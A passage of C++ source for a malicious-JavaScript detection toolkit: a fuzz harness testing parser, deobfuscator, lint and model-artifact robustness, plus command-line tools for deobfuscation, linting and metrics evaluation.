  ++stats.failures;
  std::fprintf(stderr, "FAIL %s: %s\n  input (%zu bytes): %s\n", oracle,
               why.c_str(), input.size(), printable(input).c_str());
}

// One random mutation. Mutations may produce any byte sequence — the
// oracles only require structured failure, not acceptance.
std::string mutate(Rng& rng, std::string s) {
  if (s.empty()) s = ";";
  switch (rng.below(8)) {
    case 0: {  // flip one byte
      s[rng.below(s.size())] = static_cast<char>(rng.below(256));
      break;
    }
    case 1: {  // insert a random byte
      s.insert(s.begin() + static_cast<std::ptrdiff_t>(rng.below(s.size() + 1)),
               static_cast<char>(rng.below(256)));
      break;
    }
    case 2: {  // delete a span
      const std::size_t at = rng.below(s.size());
      const std::size_t len = 1 + rng.below(std::min<std::size_t>(
                                      s.size() - at, 32));
      s.erase(at, len);
      break;
    }
    case 3: {  // duplicate a span
      const std::size_t at = rng.below(s.size());
      const std::size_t len = 1 + rng.below(std::min<std::size_t>(
                                      s.size() - at, 64));
      s.insert(at, s.substr(at, len));
      break;
    }
    case 4: {  // truncate (models mid-transfer cutoffs)
      s.resize(rng.below(s.size()) + 1);
      break;
    }
    case 5: {  // splice a dictionary fragment
      const std::size_t di =
          rng.below(sizeof kDictionary / sizeof kDictionary[0]);
      s.insert(rng.below(s.size() + 1), kDictionary[di]);
      break;
    }
    case 6: {  // wrap in nesting (exercises the depth guard)
      const std::size_t depth = 1 + rng.below(64);
      const bool parens = rng.chance(0.5);
      const std::string open(depth, parens ? '(' : '{');
      const std::string close(depth, parens ? ')' : '}');
      s = open + s + close;
      break;
    }
    default: {  // swap two spans' order
      const std::size_t a = rng.below(s.size());
      const std::size_t b = rng.below(s.size());
      std::swap(s[a], s[b]);
      break;
    }
  }
  if (s.size() > kMaxInputBytes) s.resize(kMaxInputBytes);
  return s;
}

std::vector<std::string> build_seed_corpus(const Options& opt) {
  std::vector<std::string> corpus;
  Rng rng(opt.seed);
  for (std::size_t i = 0; i < opt.corpus; ++i) {
    corpus.push_back(i % 2 == 0 ? dataset::generate_benign(rng)
                                : dataset::generate_malicious(rng));
  }
  // Obfuscated variants: machine-shaped trees stress the printer harder
  // than generator output does.
  const std::size_t base = corpus.size();
  for (const obf::ObfuscatorKind kind : obf::kAllObfuscators) {
    const auto obfuscator = obf::make_obfuscator(kind);
    for (std::size_t i = 0; i < base; i += 7) {
      corpus.push_back(obfuscator->obfuscate(corpus[i], rng()));
    }
  }
  for (std::size_t i = 0; i < base; i += 5) {
    corpus.push_back(obf::minify(corpus[i]));
  }
  // Hand-picked frontend edge cases as extra seeds.
  corpus.push_back("var s = \"a\\x00b\\x07c\";");
  corpus.push_back("var t = \"line\\\r\ncontinued\";");
  corpus.push_back("for (var i in {a: 1}) i++;");
  corpus.push_back("x = y / 2; r = /re[/]x/g;");
  return corpus;
}

/// O5 verdict sweep: a small JsRevealer trained and classifying behind
/// Config::deobfuscate must give obf(s) the verdict of s for clean generator
/// seeds — the end-to-end guarantee the normalizer exists to provide. Runs
/// once up front (training a detector per iteration would swamp the fuzz
/// loop); the per-iteration leg of O5 covers mutated inputs.
void run_verdict_sweep(const Options& opt, Stats& stats) {
  dataset::GeneratorConfig gc;
  gc.seed = opt.seed ^ 0x5eedf00dULL;
  gc.benign_count = 24;
  gc.malicious_count = 24;
  const dataset::Corpus train = dataset::generate_corpus(gc);

  core::Config cfg;
  cfg.embed_epochs = 4;
  cfg.embedding_dim = 32;
  cfg.deobfuscate = true;
  core::JsRevealer detector(cfg);
  detector.train(train);

  gc.seed = opt.seed ^ 0xc1ea11ULL;
  gc.benign_count = 6;
  gc.malicious_count = 6;
  gc.apply_wild_obfuscation = false;  // the baseline must be the plain form
  const dataset::Corpus clean = dataset::generate_corpus(gc);

  Rng rng(opt.seed ^ 0x0b5eedULL);
  for (const auto& sample : clean.samples) {
    const int plain = detector.classify(sample.source);
    for (const obf::ObfuscatorKind kind : obf::kAllObfuscators) {
      ++stats.o5_verdicts;
      const auto obfuscator = obf::make_obfuscator(kind);
      const int got = detector.classify(obfuscator->obfuscate(
          sample.source, static_cast<std::uint32_t>(rng())));
      if (got != plain) {
        report_failure(stats, "O5-deob-verdict",
                       obfuscator->name() + " verdict " + std::to_string(got) +
                           " != plain verdict " + std::to_string(plain),
                       sample.source);
      }
    }
  }
}

/// O6 artifact-robustness sweep: mutate a valid JSRM artifact and require
/// ModelView::from_buffer to either reject it with ser::ModelFormatError or
/// keep classifying exactly like the pristine artifact (a mutation that only
/// touches alignment padding changes nothing observable). Any other
/// exception, a crash, or a silent verdict change is a finding.
void run_artifact_sweep(const Options& opt, Stats& stats) {
  dataset::GeneratorConfig gc;
  gc.seed = opt.seed ^ 0xa271f0ULL;
  gc.benign_count = 20;
  gc.malicious_count = 20;
  const dataset::Corpus train = dataset::generate_corpus(gc);

  core::Config cfg;
  cfg.embed_epochs = 4;
  cfg.embedding_dim = 32;
  core::JsRevealer detector(cfg);
  detector.train(train);
  const std::vector<std::uint8_t> artifact = detector.save_artifact();

  // Probe scripts + the heap detector's verdicts as the baseline.
  gc.seed = opt.seed ^ 0x9e0be5ULL;
  gc.benign_count = 3;
  gc.malicious_count = 3;
  const dataset::Corpus probes = dataset::generate_corpus(gc);
  std::vector<int> baseline;
  for (const auto& s : probes.samples) {
    baseline.push_back(detector.classify(s.source));
  }

  // The pristine artifact itself must load and agree with the heap path.
  {
    ++stats.o6_checked;
    core::ModelView view;
    bool ok = true;
    try {
      view.from_buffer(artifact);
    } catch (const std::exception& e) {
      ok = false;
      report_failure(stats, "O6-artifact",
                     std::string("pristine artifact rejected: ") + e.what(),
                     "<artifact>");
    }
    if (ok) {
      for (std::size_t i = 0; i < probes.samples.size(); ++i) {
        if (view.classify(probes.samples[i].source) != baseline[i]) {
          report_failure(stats, "O6-artifact",
                         "mapped verdict differs from heap verdict on probe " +
                             std::to_string(i),
                         probes.samples[i].source);
        }
      }
    }
  }

  Rng rng(opt.seed ^ 0x6a57ULL);
  const auto check_mutant = [&](std::vector<std::uint8_t> mutant,
                                const char* what) {
    ++stats.o6_checked;
    core::ModelView view;
    try {
      view.from_buffer(std::move(mutant));
    } catch (const ser::ModelFormatError&) {
      return;  // structured rejection: exactly the contract
    } catch (const std::exception& e) {
      report_failure(stats, "O6-artifact",
                     std::string(what) + " raised a non-ModelFormatError: " +
                         e.what(),
                     "<artifact>");
      return;
    }
    // Still loads: the mutation must be behaviorally invisible.
    for (std::size_t i = 0; i < probes.samples.size(); ++i) {
      if (view.classify(probes.samples[i].source) != baseline[i]) {
        report_failure(stats, "O6-artifact",
                       std::string(what) +
                           " loaded but silently changed the verdict of "
                           "probe " +
                           std::to_string(i),
                       probes.samples[i].source);
        return;
      }
    }
  };

  for (int round = 0; round < 48; ++round) {
    // Truncation (mid-transfer cutoff): every prefix length is fair game.
    std::vector<std::uint8_t> cut = artifact;
    cut.resize(rng.below(artifact.size()));
    check_mutant(std::move(cut), "truncation");

    // Single bit flip anywhere in the file.
    std::vector<std::uint8_t> flipped = artifact;
    const std::size_t at = rng.below(flipped.size());
    flipped[at] ^= static_cast<std::uint8_t>(1u << rng.below(8));
    check_mutant(std::move(flipped), "bit flip");
  }
}

int run(const Options& opt) {
  const std::vector<std::string> corpus = build_seed_corpus(opt);
  std::vector<std::unique_ptr<obf::Obfuscator>> obfuscators;
  for (const obf::ObfuscatorKind kind : obf::kAllObfuscators) {
    obfuscators.push_back(obf::make_obfuscator(kind));
  }
  const lint::Linter linter;
  const js::ParseLimits limits;  // library defaults — what production sees
  Stats stats;
  Timer wall;

  run_verdict_sweep(opt, stats);
  if (!opt.quiet) {
    std::printf("  O5 verdict sweep: %llu checks, %llu findings\n",
                static_cast<unsigned long long>(stats.o5_verdicts),
                static_cast<unsigned long long>(stats.failures));
  }
  run_artifact_sweep(opt, stats);
  if (!opt.quiet) {
    std::printf("  O6 artifact sweep: %llu checks, %llu findings\n",
                static_cast<unsigned long long>(stats.o6_checked),
                static_cast<unsigned long long>(stats.failures));
  }

  for (std::uint64_t iter = 0; iter < opt.iters; ++iter) {
    // Per-iteration generator derived from (seed, iter) only, so any
    // failing iteration reproduces in isolation.
    Rng rng(hash_combine(opt.seed, iter + 1));
    std::string input = corpus[rng.below(corpus.size())];
    const std::size_t n_mut = 1 + rng.below(4);
    for (std::size_t m = 0; m < n_mut; ++m) input = mutate(rng, input);
    ++stats.execs;

    // --- O1: lex→parse fails as a value or not at all -----------------
    bool parsed = false;
    js::Ast ast;
    try {
      ast = js::parse(input, limits);
      parsed = true;
    } catch (const js::LexError&) {
    } catch (const js::ParseError&) {
    } catch (const std::exception& e) {
      report_failure(stats, "O1-never-crash",
                     std::string("unexpected exception: ") + e.what(), input);
    }
    if (parsed) {
      ++stats.parse_ok;
    } else {
      ++stats.parse_fail;
    }

    if (parsed) {
      // --- O2: print→reparse is a structural fixed point --------------
      ++stats.o2_checked;
      for (const js::PrintStyle style :
           {js::PrintStyle::kPretty, js::PrintStyle::kMinified}) {
        const std::string printed = js::print(ast.root, style);
        try {
          const js::Ast reparsed = js::parse(printed, limits);
          if (!js::ast_equal(ast.root, reparsed.root)) {
            report_failure(stats, "O2-round-trip",
                           "reparsed AST differs structurally; printed: " +
                               printable(printed),
                           input);
          }
        } catch (const std::exception& e) {
          report_failure(stats, "O2-round-trip",
                         std::string("printed form no longer parses (") +
                             e.what() + "); printed: " + printable(printed),
                         input);
        }
      }

      // --- O3: obfuscator output still parses --------------------------
      ++stats.o3_checked;
      const auto& obfuscator = obfuscators[iter % obfuscators.size()];
      try {
        const std::string transformed = obfuscator->obfuscate(input, rng());
        if (!js::parses_ok(transformed, limits)) {
          report_failure(stats, "O3-obfuscate",
                         obfuscator->name() + " output no longer parses",
                         input);
        }
      } catch (const std::exception& e) {
        report_failure(stats, "O3-obfuscate",
                       obfuscator->name() + " threw: " + e.what(), input);
      }

      // --- O5: deobfuscation is total, parseable, idempotent -----------
      ++stats.o5_checked;
      try {
        const deob::SourceResult once = deob::deobfuscate_source(input, limits);
        if (!once.parse_ok) {
          report_failure(stats, "O5-deob",
                         "input parses but deobfuscate_source failed: " +
                             once.error,
                         input);
        } else if (!js::parses_ok(once.source, limits)) {
          report_failure(stats, "O5-deob",
                         "normalized source no longer parses; normalized: " +
                             printable(once.source),
                         input);
        } else {
          const deob::SourceResult twice =
              deob::deobfuscate_source(once.source, limits);
          if (twice.pipeline.total_changes != 0 || twice.source != once.source) {
            report_failure(stats, "O5-deob",
                           "second run is not a fixpoint (" +
                               std::to_string(twice.pipeline.total_changes) +
                               " changes); normalized: " +
                               printable(once.source),
                           input);
          }
        }
      } catch (const std::exception& e) {
        report_failure(stats, "O5-deob",
                       std::string("deobfuscate_source threw: ") + e.what(),
                       input);
      }
    }

    // --- O4: lint is total, and agrees with parse on failure ----------
    try {
      const analysis::ScriptAnalysis sa(input, limits);
      const lint::LintResult lr = linter.lint(sa);
      if (lr.parse_failed == parsed) {
        report_failure(stats, "O4-lint-total",
                       "lint parse_failed disagrees with direct parse",
                       input);
      }
    } catch (const std::exception& e) {
      report_failure(stats, "O4-lint-total",
                     std::string("lint threw: ") + e.what(), input);
    }

    if (!opt.quiet && (iter + 1) % 500 == 0) {
      std::printf("  %llu/%llu iters, %llu parse-ok, %llu findings\n",
                  static_cast<unsigned long long>(iter + 1),
                  static_cast<unsigned long long>(opt.iters),
                  static_cast<unsigned long long>(stats.parse_ok),
                  static_cast<unsigned long long>(stats.failures));
    }
  }

  const double secs = wall.elapsed_ms() / 1000.0;
  const double rate = secs > 0 ? static_cast<double>(stats.execs) / secs : 0;
  std::printf(
      "jsr_fuzz: seed=%llu iters=%llu corpus=%zu | %llu parse-ok, "
      "%llu parse-fail | O2 on %llu, O3 on %llu, O5 on %llu (+%llu verdicts) "
      "| O6 on %llu | %.2fs (%.0f execs/s) | %llu findings\n",
      static_cast<unsigned long long>(opt.seed),
      static_cast<unsigned long long>(stats.execs), corpus.size(),
      static_cast<unsigned long long>(stats.parse_ok),
      static_cast<unsigned long long>(stats.parse_fail),
      static_cast<unsigned long long>(stats.o2_checked),
      static_cast<unsigned long long>(stats.o3_checked),
      static_cast<unsigned long long>(stats.o5_checked),
      static_cast<unsigned long long>(stats.o5_verdicts),
      static_cast<unsigned long long>(stats.o6_checked), secs, rate,
      static_cast<unsigned long long>(stats.failures));

  stats.publish();

  if (opt.write_json) {
    obs::JsonWriter w;
    obs::write_bench_header(w, "fuzz");
    w.kv("seed", opt.seed)
        .kv("iters", stats.execs)
        .kv("corpus_seeds", static_cast<std::uint64_t>(corpus.size()))
        .kv("parse_ok", stats.parse_ok)
        .kv("parse_fail", stats.parse_fail)
        .kv("roundtrip_checked", stats.o2_checked)
        .kv("obfuscate_checked", stats.o3_checked)
        .kv("deob_checked", stats.o5_checked)
        .kv("deob_verdicts_checked", stats.o5_verdicts)
        .kv("artifact_checked", stats.o6_checked)
        .kv_fixed("wall_s", secs, 3)
        .kv_fixed("execs_per_sec", rate, 1)
        .kv("findings", stats.failures)
        .end_object();
    std::ofstream json(opt.json_path);
    json << w.str() << "\n";
    std::printf("wrote %s\n", opt.json_path.c_str());
  }
  return stats.failures == 0 ? 0 : 1;
}

int usage(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s [--seed N] [--iters N] [--corpus N] "
               "[--json PATH | --no-json] [--quiet]\n",
               argv0);
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  Options opt;
  for (int i = 1; i < argc; ++i) {
    const auto next = [&]() -> const char* {
      return i + 1 < argc ? argv[++i] : nullptr;
    };
    if (std::strcmp(argv[i], "--seed") == 0) {
      const char* v = next();
      if (v == nullptr || !parse_u64(v, &opt.seed)) return usage(argv[0]);
    } else if (std::strcmp(argv[i], "--iters") == 0) {
      const char* v = next();
      if (v == nullptr || !parse_u64(v, &opt.iters)) return usage(argv[0]);
    } else if (std::strcmp(argv[i], "--corpus") == 0) {
      const char* v = next();
      if (v == nullptr || !parse_size(v, &opt.corpus) || opt.corpus == 0) {
        return usage(argv[0]);
      }
    } else if (std::strcmp(argv[i], "--json") == 0) {
      const char* v = next();
      if (v == nullptr) return usage(argv[0]);
      opt.json_path = v;
    } else if (std::strcmp(argv[i], "--no-json") == 0) {
      opt.write_json = false;
    } else if (std::strcmp(argv[i], "--quiet") == 0) {
      opt.quiet = true;
    } else {
      return usage(argv[0]);
    }
  }
  return run(opt);
}
