// jsr_deob: standalone CLI for the static deobfuscation pipeline.
//
//   $ jsr_deob file.js                # normalized source on stdout
//   $ jsr_deob --stats file.js ...    # per-pass diff stats, text table
//   $ jsr_deob --json file.js ...     # machine-readable stats + source
//   $ echo 'code' | jsr_deob -        # read stdin
//
// --minify prints the normalized source minified, --max-iters N caps the
// fixpoint driver. With --stats/--json the normalized source is only
// embedded in the JSON form. Unparseable input passes through unchanged
// (parse_ok=false in the stats); the exit status is 0 either way, 2 on
// usage or I/O errors.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iostream>
#include <sstream>
#include <string>
#include <vector>

#include "deob/deob.h"
#include "obs/json.h"
#include "util/string_util.h"

namespace {

bool read_input(const std::string& path, std::string* out) {
  if (path == "-") {
    std::ostringstream buf;
    buf << std::cin.rdbuf();
    *out = buf.str();
    return true;
  }
  std::ifstream in(path, std::ios::binary);
  if (!in) return false;
  std::ostringstream buf;
  buf << in.rdbuf();
  *out = buf.str();
  return true;
}

void print_stats(const std::string& name,
                 const jsrev::deob::SourceResult& r) {
  if (!r.parse_ok) {
    std::printf("%s: parse failed (%s); passed through unchanged\n",
                name.c_str(), r.error.c_str());
    return;
  }
  std::printf("%s: %d iteration%s (%s), %d change%s, nodes %d -> %d\n",
              name.c_str(), r.pipeline.iterations,
              r.pipeline.iterations == 1 ? "" : "s",
              r.pipeline.reached_fixpoint ? "fixpoint" : "iteration cap",
              r.pipeline.total_changes,
              r.pipeline.total_changes == 1 ? "" : "s", r.nodes_before,
              r.nodes_after);
  for (const auto& p : r.pipeline.per_pass) {
    std::printf("  %-20s %d\n", p.pass.c_str(), p.changes);
  }
}

void write_json(jsrev::obs::JsonWriter& w, const std::string& name,
                const jsrev::deob::SourceResult& r) {
  w.begin_object();
  w.kv("file", name);
  w.kv("parse_ok", r.parse_ok);
  if (!r.parse_ok) {
    w.kv("error", r.error);
  } else {
    w.kv("iterations", r.pipeline.iterations);
    w.kv("reached_fixpoint", r.pipeline.reached_fixpoint);
    w.kv("total_changes", r.pipeline.total_changes);
    w.key("pass_changes").begin_object();
    for (const auto& p : r.pipeline.per_pass) w.kv(p.pass, p.changes);
    w.end_object();
    w.kv("nodes_before", r.nodes_before);
    w.kv("nodes_after", r.nodes_after);
    w.kv("fingerprint_before", r.fingerprint_before);
    w.kv("fingerprint_after", r.fingerprint_after);
    w.kv("changed", r.fingerprint_before != r.fingerprint_after);
  }
  w.kv("source", r.source);
  w.end_object();
}

int usage(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s [--stats|--json] [--minify] [--max-iters N] "
               "file.js ... | -\n",
               argv0);
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  bool json = false;
  bool stats = false;
  jsrev::deob::DeobOptions opts;
  jsrev::js::PrintStyle style = jsrev::js::PrintStyle::kPretty;
  std::vector<std::string> files;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--json") == 0) {
      json = true;
    } else if (std::strcmp(argv[i], "--stats") == 0) {
      stats = true;
    } else if (std::strcmp(argv[i], "--minify") == 0) {
      style = jsrev::js::PrintStyle::kMinified;
    } else if (std::strcmp(argv[i], "--max-iters") == 0) {
      if (i + 1 >= argc ||
          !jsrev::parse_positive_int(argv[++i], &opts.max_iterations)) {
        return usage(argv[0]);
      }
    } else if (std::strcmp(argv[i], "-") == 0) {
      files.emplace_back("-");
    } else if (argv[i][0] == '-') {
      std::fprintf(stderr, "unknown option: %s\n", argv[i]);
      return usage(argv[0]);
    } else {
      files.emplace_back(argv[i]);
    }
  }
  if (files.empty()) return usage(argv[0]);

  jsrev::obs::JsonWriter w;
  if (json) w.begin_array();
  for (const std::string& f : files) {
    std::string source;
    if (!read_input(f, &source)) {
      std::fprintf(stderr, "cannot read %s\n", f.c_str());
      return 2;
    }
    const jsrev::deob::SourceResult r =
        jsrev::deob::deobfuscate_source(source, {}, opts, style);
    if (json) {
      write_json(w, f, r);
    } else if (stats) {
      print_stats(f, r);
    } else {
      std::fputs(r.source.c_str(), stdout);
      if (!r.source.empty() && r.source.back() != '\n') std::fputc('\n', stdout);
    }
  }
  if (json) {
    w.end_array();
    std::fputs(w.str().c_str(), stdout);
    std::fputc('\n', stdout);
  }
  return 0;
}
