// jsr_lint: standalone CLI for the semantic lint engine.
//
//   $ jsr_lint file.js [file2.js ...]      # human-readable report
//   $ jsr_lint --json file.js ...          # machine-readable JSON
//   $ jsr_lint --deob file.js ...          # lint the deobfuscated form
//   $ jsr_lint --threads N file.js ...     # parallel width (0 = hardware)
//   $ jsr_lint --rules                     # print the rule catalog
//
// Exit status: 0 on success (diagnostics are data, not failures), 2 on
// usage or I/O errors.
#include <cstdio>
#include <cstring>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>
#include <vector>

#include "analysis/script_analysis.h"
#include "lint/linter.h"
#include "lint/registry.h"
#include "lint/report.h"
#include "util/string_util.h"

namespace {

bool read_file(const std::string& path, std::string* out) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return false;
  std::ostringstream buf;
  buf << in.rdbuf();
  *out = buf.str();
  return true;
}

int print_rules() {
  std::printf("%-5s %-24s %-8s %-8s %s\n", "id", "name", "severity",
              "category", "description");
  for (const auto& m : jsrev::lint::rule_catalog()) {
    std::printf("%-5s %-24s %-8s %-8s %s\n", m.id.c_str(), m.name.c_str(),
                std::string(jsrev::lint::severity_name(m.severity)).c_str(),
                std::string(jsrev::lint::category_name(m.category)).c_str(),
                m.description.c_str());
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace jsrev::lint;

  bool json = false;
  bool deob = false;
  std::size_t threads = 0;
  std::vector<std::string> files;
  const auto usage = [&]() {
    std::fprintf(
        stderr,
        "usage: %s [--json] [--deob] [--threads N] file.js ... | --rules\n",
        argv[0]);
    return 2;
  };
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--json") == 0) {
      json = true;
    } else if (std::strcmp(argv[i], "--deob") == 0) {
      deob = true;
    } else if (std::strcmp(argv[i], "--threads") == 0) {
      if (i + 1 >= argc || !jsrev::parse_size(argv[++i], &threads)) {
        return usage();
      }
    } else if (std::strcmp(argv[i], "--rules") == 0) {
      return print_rules();
    } else if (argv[i][0] == '-') {
      std::fprintf(stderr, "unknown option: %s\n", argv[i]);
      return usage();
    } else {
      files.emplace_back(argv[i]);
    }
  }
  if (files.empty()) return usage();

  std::vector<std::unique_ptr<jsrev::analysis::ScriptAnalysis>> scripts;
  scripts.reserve(files.size());
  for (std::size_t i = 0; i < files.size(); ++i) {
    std::string source;
    if (!read_file(files[i], &source)) {
      std::fprintf(stderr, "cannot read %s\n", files[i].c_str());
      return 2;
    }
    scripts.push_back(std::make_unique<jsrev::analysis::ScriptAnalysis>(
        std::move(source), jsrev::js::ParseLimits{}, deob));
  }

  const Linter linter;
  const std::vector<LintResult> results = linter.lint_all(scripts, threads);
  std::vector<NamedResult> named(files.size());
  for (std::size_t i = 0; i < files.size(); ++i) {
    named[i] = NamedResult{files[i], results[i]};
  }

  const std::string report = json ? render_json(named) : render_text(named);
  std::fwrite(report.data(), 1, report.size(), stdout);
  if (json) std::fputc('\n', stdout);
  return 0;
}
