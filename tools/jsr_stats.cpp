// jsr_stats: observability front door. Runs a small end-to-end evaluation
// (JSRevealer + the four baselines over a generated corpus, shared
// AnalyzedCorpus) so every instrumented layer reports into the process-wide
// registry and tracer, then emits the requested artifacts:
//
//   --metrics PATH|-     full metrics JSON (Registry::to_json); "-" = stdout
//   --metrics-table      human-readable metrics table on stdout
//   --deterministic PATH width-invariant subset (Registry::deterministic_json)
//   --trace PATH         Chrome trace-event JSON of the run (load the file in
//                        Perfetto / chrome://tracing)
//   --explain FILE.JS    classify FILE.JS with provenance capture and print
//                        the VerdictProvenance record as JSON
//   --prom PATH|-        Prometheus text exposition of the run's metrics,
//                        rendered from the drained JSON snapshot through the
//                        same writer GET /metrics uses ("-" = stdout)
//   --prom-from IN.json  no evaluation: convert an existing metrics JSON
//                        snapshot (a --metrics file, a STATS frame payload)
//                        to Prometheus text on stdout
//   --validate FILE      no evaluation: check FILE is well-formed JSON and,
//                        when it carries the BENCH envelope or a traceEvents
//                        array, that the schema holds; non-JSON files are
//                        checked as Prometheus text exposition (repeatable;
//                        used by scripts/check.sh to gate emitted artifacts)
//   --scripts N          generated corpus size per class (default 60)
//   --threads N          parallel width (0 = hardware)
//   --seed N             corpus + model seed
//
// Exit status: 0 = ok, 1 = a validation failed, 2 = usage error.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>
#include <vector>

#include "baselines/detector.h"
#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "obs/json.h"
#include "obs/metrics.h"
#include "obs/prometheus.h"
#include "obs/provenance.h"
#include "obs/trace.h"
#include "util/string_util.h"

namespace {

using namespace jsrev;

struct Options {
  std::uint64_t seed = 42;
  std::size_t scripts = 60;
  std::size_t threads = 0;
  std::string metrics_path;        // "-" = stdout
  bool metrics_table = false;
  std::string deterministic_path;
  std::string trace_path;
  std::string explain_path;
  std::string prom_path;       // "-" = stdout
  std::string prom_from_path;  // convert an existing snapshot, no evaluation
  std::vector<std::string> validate_paths;
};

int usage(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s [--metrics PATH|-] [--metrics-table] "
               "[--deterministic PATH] [--trace PATH] [--explain FILE.JS] "
               "[--prom PATH|-] [--prom-from IN.json] "
               "[--validate FILE]... [--scripts N] [--threads N] [--seed N]\n",
               argv0);
  return 2;
}

bool read_file(const std::string& path, std::string* out) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return false;
  std::ostringstream ss;
  ss << in.rdbuf();
  *out = ss.str();
  return true;
}

bool write_file(const std::string& path, const std::string& text) {
  std::ofstream out(path, std::ios::binary);
  if (!out) return false;
  out << text;
  return static_cast<bool>(out);
}

/// Validates one artifact: JSON well-formedness always; the BENCH envelope
/// when a "bench" member is present; the Chrome trace shape when a
/// "traceEvents" member is present.
bool validate_artifact(const std::string& path) {
  std::string text;
  if (!read_file(path, &text)) {
    std::fprintf(stderr, "jsr_stats: cannot read %s\n", path.c_str());
    return false;
  }
  std::string error;
  const auto doc = obs::json_parse(text, &error);
  const char* kind = "json";
  bool ok = true;
  if (doc == nullptr) {
    // Not JSON at all — the other artifact family we emit is Prometheus
    // text exposition (the admin smoke's /metrics fetch, --prom output).
    std::string prom_error;
    if (obs::validate_prometheus_text(text, &prom_error)) {
      std::printf("jsr_stats: %s: valid prometheus-text\n", path.c_str());
      return true;
    }
    std::fprintf(stderr,
                 "jsr_stats: %s: neither JSON (%s) nor Prometheus text "
                 "(%s)\n",
                 path.c_str(), error.c_str(), prom_error.c_str());
    return false;
  }
  if (doc->find("traceEvents") != nullptr) {
    kind = "chrome-trace";
    ok = obs::validate_chrome_trace_json(text, &error);
  } else if (doc->find("bench") != nullptr) {
    kind = "bench-envelope";
    ok = obs::validate_bench_json(text, /*expected_bench=*/{}, &error);
  }
  if (!ok) {
    std::fprintf(stderr, "jsr_stats: %s: invalid %s: %s\n", path.c_str(),
                 kind, error.c_str());
    return false;
  }
  std::printf("jsr_stats: %s: valid %s\n", path.c_str(), kind);
  return true;
}

/// Exercises every instrumented layer: trains JSRevealer and the four
/// baselines on a generated corpus and evaluates all five over one shared
/// AnalyzedCorpus (the parse-once path), populating the registry and — when
/// tracing is on — the span buffers.
std::unique_ptr<core::JsRevealer> run_evaluation(const Options& opt) {
  dataset::GeneratorConfig gc;
  gc.seed = opt.seed;
  gc.benign_count = opt.scripts;
  gc.malicious_count = opt.scripts;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  Rng rng(opt.seed);
  const std::size_t train_per_class = opt.scripts * 2 / 3;
  const dataset::Split split =
      dataset::split_corpus(corpus, train_per_class, train_per_class, rng);

  core::Config cfg;
  cfg.seed = opt.seed;
  cfg.threads = opt.threads;
  cfg.lint_features = true;  // exercise the lint tail's instrumentation too
  auto det = std::make_unique<core::JsRevealer>(cfg);
  det->train(split.train);

  std::vector<std::unique_ptr<detect::Detector>> baselines;
  for (const detect::BaselineKind kind : detect::kAllBaselines) {
    baselines.push_back(detect::make_baseline(kind, opt.seed));
    baselines.back()->train(split.train);
  }

  const analysis::AnalyzedCorpus analyzed =
      detect::analyze_corpus(split.test, opt.threads);
  const ml::Metrics m = det->evaluate(analyzed);
  std::printf("JSRevealer: acc %.3f f1 %.3f over %zu test scripts\n",
              m.accuracy, m.f1, analyzed.size());
  for (const auto& b : baselines) {
    const ml::Metrics bm = b->evaluate(analyzed);
    std::printf("%-10s: acc %.3f f1 %.3f\n", b->name().c_str(), bm.accuracy,
                bm.f1);
  }
  return det;
}

}  // namespace

int main(int argc, char** argv) {
  Options opt;
  for (int i = 1; i < argc; ++i) {
    const auto next = [&]() -> const char* {
      return i + 1 < argc ? argv[++i] : nullptr;
    };
    const char* arg = argv[i];
    if (std::strcmp(arg, "--metrics") == 0) {
      const char* v = next();
      if (v == nullptr) return usage(argv[0]);
      opt.metrics_path = v;
    } else if (std::strcmp(arg, "--metrics-table") == 0) {
      opt.metrics_table = true;
    } else if (std::strcmp(arg, "--deterministic") == 0) {
      const char* v = next();
      if (v == nullptr) return usage(argv[0]);
      opt.deterministic_path = v;
    } else if (std::strcmp(arg, "--trace") == 0) {
      const char* v = next();
      if (v == nullptr) return usage(argv[0]);
      opt.trace_path = v;
    } else if (std::strcmp(arg, "--explain") == 0) {
      const char* v = next();
      if (v == nullptr) return usage(argv[0]);
      opt.explain_path = v;
    } else if (std::strcmp(arg, "--prom") == 0) {
      const char* v = next();
      if (v == nullptr) return usage(argv[0]);
      opt.prom_path = v;
    } else if (std::strcmp(arg, "--prom-from") == 0) {
      const char* v = next();
      if (v == nullptr) return usage(argv[0]);
      opt.prom_from_path = v;
    } else if (std::strcmp(arg, "--validate") == 0) {
      const char* v = next();
      if (v == nullptr) return usage(argv[0]);
      opt.validate_paths.push_back(v);
    } else if (std::strcmp(arg, "--scripts") == 0) {
      const char* v = next();
      if (v == nullptr || !parse_size(v, &opt.scripts) || opt.scripts == 0) {
        return usage(argv[0]);
      }
    } else if (std::strcmp(arg, "--threads") == 0) {
      const char* v = next();
      if (v == nullptr || !parse_size(v, &opt.threads)) return usage(argv[0]);
    } else if (std::strcmp(arg, "--seed") == 0) {
      const char* v = next();
      if (v == nullptr || !parse_u64(v, &opt.seed)) return usage(argv[0]);
    } else {
      return usage(argv[0]);
    }
  }

  if (!opt.validate_paths.empty()) {
    bool all_ok = true;
    for (const std::string& path : opt.validate_paths) {
      all_ok = validate_artifact(path) && all_ok;
    }
    return all_ok ? 0 : 1;
  }

  if (!opt.prom_from_path.empty()) {
    // Offline conversion: a drained snapshot (a --metrics file or a STATS
    // frame payload) through the same exposition writer GET /metrics uses.
    std::string json;
    if (!read_file(opt.prom_from_path, &json)) {
      std::fprintf(stderr, "jsr_stats: cannot read %s\n",
                   opt.prom_from_path.c_str());
      return 1;
    }
    std::vector<obs::MetricSample> rows;
    std::string error;
    if (!obs::samples_from_metrics_json(json, &rows, &error)) {
      std::fprintf(stderr, "jsr_stats: %s: not a metrics snapshot: %s\n",
                   opt.prom_from_path.c_str(), error.c_str());
      return 1;
    }
    std::fputs(obs::render_prometheus(rows).c_str(), stdout);
    return 0;
  }

